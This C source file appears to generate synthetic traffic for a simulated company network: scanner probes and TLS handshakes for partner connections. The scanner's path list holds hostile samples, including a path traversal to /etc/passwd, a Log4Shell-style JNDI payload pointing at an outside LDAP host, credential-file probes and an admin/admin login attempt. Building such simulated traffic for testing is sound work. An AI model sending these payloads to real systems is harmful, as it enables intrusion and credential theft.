/* SPDX-License-Identifier: Apache-2.0 */
/* Who comes from outside: a scanner that tries what scanners try, and partners whose traffic is encrypted. */
#include "company.h"

#include <stdio.h>
#include <string.h>

void scanner_visits(struct company *company)
{
    static const char *const paths[] = {
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/wp-admin/setup-config.php",
        "/phpmyadmin/index.php",
        "/admin.php",
        "/cgi-bin/luci",
        "/actuator/env",
        "/server-status",
        "/backup.zip",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/.aws/credentials",
        "/boaform/admin/formLogin",
        "/solr/admin/info/system",
        "/api/v1/pods",
        "/xmlrpc.php",
        "/owa/auth/logon.aspx",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/?x=${jndi:ldap://203.0.113.66/a}",
        "/HNAP1/",
    };
    struct visit visit =
        company_visit(company, "203.0.113.66", &door_catalogue, "Mozilla/5.0 zgrab/0.x", NULL);
    unsigned first = dice_below(&company->dice, 20);

    for (unsigned i = 0; i < 9; i++)
        visit_call(&visit, &(struct call){ .method = i == 7 ? "POST" : "GET",
                                           .target = paths[(first + i * 3) % 20],
                                           .status = 404,
                                           .answer_type = "text/html",
                                           .answer = "<h1>404 Not Found</h1>",
                                           .type = "application/x-www-form-urlencoded",
                                           .body = i == 7 ? "log=admin&pwd=admin" : NULL });
    talk_reset(&visit.talk);
}

static size_t put_big(uint8_t *at, size_t value, unsigned bytes)
{
    for (unsigned i = 0; i < bytes; i++)
        at[i] = (uint8_t)(value >> (8 * (bytes - 1 - i)));
    return bytes;
}

/* A ClientHello (RFC 8446 4.1.2) that names its server and offers TLS 1.3. */
static size_t client_hello(struct dice *dice, const char *name, uint8_t *out)
{
    static const uint8_t versions[] = { 0, 0x2b, 0, 3, 2, 3, 4 };
    size_t name_len = strlen(name), extensions = 9 + name_len + sizeof versions,
           body = 2 + 32 + 1 + 2 + 2 + 2 + 2 + extensions, at = 0;

    out[at++] = 22; /* handshake */
    at += put_big(out + at, 0x0301, 2);
    at += put_big(out + at, body + 4, 2);
    out[at++] = 1; /* client_hello */
    at += put_big(out + at, body, 3);
    at += put_big(out + at, 0x0303, 2);
    dice_bytes(dice, out + at, 32);
    at += 32;
    out[at++] = 0; /* no session */
    at += put_big(out + at, 2, 2);
    at += put_big(out + at, 0x1301, 2); /* TLS_AES_128_GCM_SHA256 */
    at += put_big(out + at, 0x0100, 2); /* one compression method: none */
    at += put_big(out + at, extensions, 2);
    at += put_big(out + at, 0, 2); /* server_name, RFC 6066 3 */
    at += put_big(out + at, name_len + 5, 2);
    at += put_big(out + at, name_len + 3, 2);
    out[at++] = 0;
    at += put_big(out + at, name_len, 2);
    memcpy(out + at, name, name_len);
    at += name_len;
    memcpy(out + at, versions, sizeof versions);
    return at + sizeof versions;
}

static size_t records(struct dice *dice, uint8_t *out, size_t payload)
{
    size_t at = 0;

    out[at++] = 23; /* application data */
    at += put_big(out + at, 0x0303, 2);
    at += put_big(out + at, payload, 2);
    dice_bytes(dice, out + at, payload);
    return at + payload;
}

static size_t server_hello(struct dice *dice, uint8_t *out)
{
    size_t at = 0;

    out[at++] = 22;
    at += put_big(out + at, 0x0303, 2);
    at += put_big(out + at, 50, 2);
    out[at++] = 2; /* server_hello */
    at += put_big(out + at, 46, 3);
    at += put_big(out + at, 0x0303, 2);
    dice_bytes(dice, out + at, 32);
    at += 32;
    out[at++] = 0;
    at += put_big(out + at, 0x1301, 2);
    out[at++] = 0;
    at += put_big(out + at, 6, 2);
    at += put_big(out + at, 0x002b, 2); /* supported_versions */
    at += put_big(out + at, 2, 2);
    at += put_big(out + at, 0x0304, 2);
    return at + records(dice, out + at, 1200);
}

void partner_visits(struct company *company)
{
    static const char *const names[] = { "identity.lanternfish.example", "identity.lanternfish.example",
                                         "edi.partner.example" };
    uint8_t bytes[4096];
    struct talk talk;
    const char *name = DICE_PICK(&company->dice, names);

    talk_open(&talk, company->capture, peer_of("203.0.113.20", company->next_port++),
              peer_of(*name == 'i' ? "192.0.2.14" : "192.0.2.15", 443), company->now, false);
    talk_send(&talk, true, bytes, client_hello(&company->dice, name, bytes), TROUBLE_NONE);
    talk_send(&talk, false, bytes, server_hello(&company->dice, bytes), TROUBLE_NONE);
    for (unsigned i = 0; i < 3; i++) {
        talk_send(&talk, true, bytes, records(&company->dice, bytes, 200 + dice_below(&company->dice, 400)),
                  TROUBLE_NONE);
        talk_send(&talk, false, bytes, records(&company->dice, bytes, 500 + dice_below(&company->dice, 2500)),
                  TROUBLE_NONE);
    }
    talk_close(&talk);
}
